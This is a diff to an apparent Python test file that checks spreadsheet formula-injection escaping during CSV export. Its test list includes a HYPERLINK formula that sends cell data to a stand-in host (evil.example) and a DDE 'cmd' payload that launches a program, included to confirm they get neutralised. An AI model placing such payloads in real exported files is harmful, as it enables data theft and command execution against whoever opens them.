@@ -15,7 +15,7 @@ from relex.errors import RelexError
 from relex.files.writing import FORMULA_STARTS, GUARD, escape_formula, unescape_formula
 from relex.flows import control
 from relex.flows.export import ExportOptions, export
-from tests.factories import example, prediction, register_model
+from tests.factories import example, prediction, register_model, without_cells
 
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1;\"here\")", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1",
@@ -30,7 +30,7 @@ def job(database):
     rows = [replace(example(n), id=cell) for n, cell in enumerate(HOSTILE)]
     with database.transaction() as tx:
         job_id = jobs.insert_job(tx, NewJob("key", "=1.csv", "0" * 64, model, len(rows), 0))
-        examples.copy_in(tx, job_id, rows)
+        examples.copy_in(tx, job_id, without_cells(rows))
         shards.create_shards(tx, job_id, len(rows), 512)
         shard = shards.claim(tx, "worker", 60)
         error = RowError(rows[-1].row_no, "poison", "=1+1")
